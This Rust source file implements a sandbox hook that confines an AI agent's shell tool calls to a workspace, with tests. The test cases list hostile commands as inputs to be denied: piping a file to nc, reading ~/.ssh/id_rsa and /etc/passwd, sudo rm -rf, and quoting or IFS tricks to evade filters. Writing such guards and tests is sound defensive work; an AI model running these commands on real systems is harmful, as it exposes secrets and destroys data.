//! Confines shell execution to a workspace directory.
//!
//! Checks are lexical: the command string is split into segments at shell
//! separators, and each segment's program and path-like arguments are
//! inspected. Anything the shell would expand before running (`$`
//! parameters, substitutions, `~`) is refused outright, since the expanded
//! text can't be checked. Calls that pass are rewritten to run inside the
//! workspace with the configured timeout.

use super::{Hook, HookDecision, HookError};
use crate::config::ShellSandboxConfig;
use crate::message::ToolCallRequest;
use crate::state::RunState;
use async_trait::async_trait;
use serde_json::Value;
use std::path::{Component, Path};

/// Denies network clients, privilege escalation, and paths outside the
/// workspace for the configured shell tools.
#[derive(Debug, Default)]
pub struct ShellSandboxHook {
    config: ShellSandboxConfig,
}

impl ShellSandboxHook {
    pub fn new(config: ShellSandboxConfig) -> Self {
        Self { config }
    }

    pub fn workspace(&self) -> &Path {
        &self.config.workspace
    }

    /// Reason the command may not run, if any.
    fn check_command(&self, command: &str) -> Option<String> {
        if command.trim().is_empty() {
            return Some("Empty command".to_string());
        }
        if command.contains("$(") || command.contains('`') {
            return Some("Command substitution is not allowed in the sandbox".to_string());
        }
        if command.contains('$') {
            return Some("Variable expansion is not allowed in the sandbox".to_string());
        }

        for segment in split_segments(command) {
            let mut words = segment.split_whitespace();
            let Some(program) = words.next() else {
                continue;
            };
            if program.contains('=') {
                return Some("Variable assignments are not allowed in the sandbox".to_string());
            }
            let program_name = program_name(program);
            if self.is_denied(&program_name) {
                return Some(format!("Command '{program_name}' is not allowed in the sandbox"));
            }
            for word in std::iter::once(program).chain(words) {
                if let Some(reason) = self.check_word(word) {
                    return Some(reason);
                }
            }
        }
        None
    }

    fn is_denied(&self, program_name: &str) -> bool {
        let base = program_name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        self.config
            .denied_commands
            .iter()
            .any(|d| d == program_name || d == base)
    }

    fn check_word(&self, word: &str) -> Option<String> {
        let word = word.trim_matches(|c| c == '"' || c == '\'');
        // Redirect targets like `>/etc/passwd`
        let word = word.trim_start_matches(['<', '>']);
        if word.starts_with('~') {
            return Some(format!("Path '{word}' escapes the workspace"));
        }
        let path = Path::new(word);
        if path.components().any(|c| c == Component::ParentDir) {
            return Some(format!("Path '{word}' escapes the workspace"));
        }
        if path.is_absolute() && !path.starts_with(&self.config.workspace) {
            return Some(format!(
                "Path '{}' is outside the workspace {}",
                word,
                self.config.workspace.display()
            ));
        }
        None
    }
}

/// Bare program name with quoting and escapes removed, as the shell
/// would resolve it: `"/usr/bin/cu"rl` becomes `curl`.
fn program_name(program: &str) -> String {
    let unquoted: String = program
        .chars()
        .filter(|c| !matches!(c, '"' | '\'' | '\\'))
        .collect();
    unquoted
        .rsplit('/')
        .next()
        .unwrap_or_default()
        .trim_start_matches(['{', '!'])
        .to_string()
}

fn split_segments(command: &str) -> impl Iterator<Item = &str> {
    command
        .split(|c| matches!(c, ';' | '|' | '&' | '\n' | '(' | ')'))
        .map(str::trim)
        .filter(|s| !s.is_empty())
}

#[async_trait]
impl Hook for ShellSandboxHook {
    fn name(&self) -> &str {
        "shell_sandbox"
    }

    async fn pre_tool_call(
        &self,
        call: &ToolCallRequest,
        _state: &RunState,
    ) -> Result<HookDecision, HookError> {
        if !self.config.tool_names.iter().any(|n| n == &call.name) {
            return Ok(HookDecision::Allow);
        }

        let Some(command) = call.arguments.get("command").and_then(Value::as_str) else {
            return Ok(HookDecision::Deny {
                reason: "Shell call is missing a 'command' string".to_string(),
            });
        };

        if let Some(reason) = self.check_command(command) {
            log::warn!("Shell sandbox denied {}: {}", call.id, reason);
            return Ok(HookDecision::Deny { reason });
        }

        let mut arguments = match &call.arguments {
            Value::Object(map) => map.clone(),
            _ => serde_json::Map::new(),
        };
        arguments.insert(
            "cwd".to_string(),
            Value::String(self.config.workspace.display().to_string()),
        );
        arguments.insert(
            "timeout_secs".to_string(),
            Value::from(self.config.timeout.as_secs().max(1)),
        );
        arguments.insert("sandboxed".to_string(), Value::Bool(true));
        Ok(HookDecision::Transform(Value::Object(arguments)))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rstest::rstest;
    use serde_json::json;
    use std::time::Duration;

    fn hook() -> ShellSandboxHook {
        ShellSandboxHook::new(
            ShellSandboxConfig::default()
                .with_workspace("/work/space")
                .with_timeout(Duration::from_secs(5)),
        )
    }

    async fn decide(command: &str) -> HookDecision {
        let call = ToolCallRequest::new("c1", "shell", json!({ "command": command }));
        hook()
            .pre_tool_call(&call, &RunState::new("r", "", "q"))
            .await
            .unwrap()
    }

    #[rstest]
    #[case::network("curl https://example.com")]
    #[case::piped("cat notes.txt | nc host 80")]
    #[case::chained("ls && sudo rm -rf x")]
    #[case::full_path("/usr/bin/wget http://x")]
    #[case::traversal("cat ../secret")]
    #[case::absolute("cat /etc/passwd")]
    #[case::redirect("echo hi >/etc/motd")]
    #[case::substitution("echo $(whoami)")]
    #[case::backticks("echo `id`")]
    #[case::empty("   ")]
    #[case::variable_path("d=/etc; cat $d/passwd")]
    #[case::ifs("cat${IFS}/etc/passwd")]
    #[case::assignment_prefix("PAGER=less man ls")]
    #[case::python_inline("python3 -c 'print(open(\"/etc/passwd\").read())'")]
    #[case::python_fetch(
        "python3 -c \"import urllib.request; urllib.request.urlopen('http://example.com')\""
    )]
    #[case::versioned_interpreter("python3.12 fetch.py")]
    #[case::perl("perl -e 'system q(id)'")]
    #[case::nested_shell("bash -c 'cat notes'")]
    #[case::subshell("(sh -c ls)")]
    #[case::env_wrapper("env curl http://x")]
    #[case::quoted_program("c\"url\" http://x")]
    #[case::escaped_program("w\\get http://x")]
    #[case::home("cat ~/.ssh/id_rsa")]
    #[tokio::test]
    async fn test_denied(#[case] command: &str) {
        assert!(matches!(decide(command).await, HookDecision::Deny { .. }));
    }

    #[tokio::test]
    async fn test_allowed_command_is_confined() {
        let decision = decide("grep -r findings /work/space/notes | wc -l").await;
        assert_eq!(
            decision,
            HookDecision::Transform(json!({
                "command": "grep -r findings /work/space/notes | wc -l",
                "cwd": "/work/space",
                "timeout_secs": 5,
                "sandboxed": true
            }))
        );
    }

    #[rstest]
    #[case::listing("ls -la")]
    #[case::relative("cat notes/sources.md")]
    #[case::counting("sort findings.txt | uniq -c")]
    #[tokio::test]
    async fn test_allowed(#[case] command: &str) {
        assert!(matches!(decide(command).await, HookDecision::Transform(_)));
    }

    #[tokio::test]
    async fn test_other_tools_pass_through() {
        let call = ToolCallRequest::new("c1", "read_file", json!({"path": "/etc/passwd"}));
        let decision = hook()
            .pre_tool_call(&call, &RunState::new("r", "", "q"))
            .await
            .unwrap();
        assert_eq!(decision, HookDecision::Allow);
    }

    #[tokio::test]
    async fn test_missing_command_denied() {
        let call = ToolCallRequest::new("c1", "shell", json!({}));
        let decision = hook()
            .pre_tool_call(&call, &RunState::new("r", "", "q"))
            .await
            .unwrap();
        assert!(matches!(decision, HookDecision::Deny { .. }));
    }
}
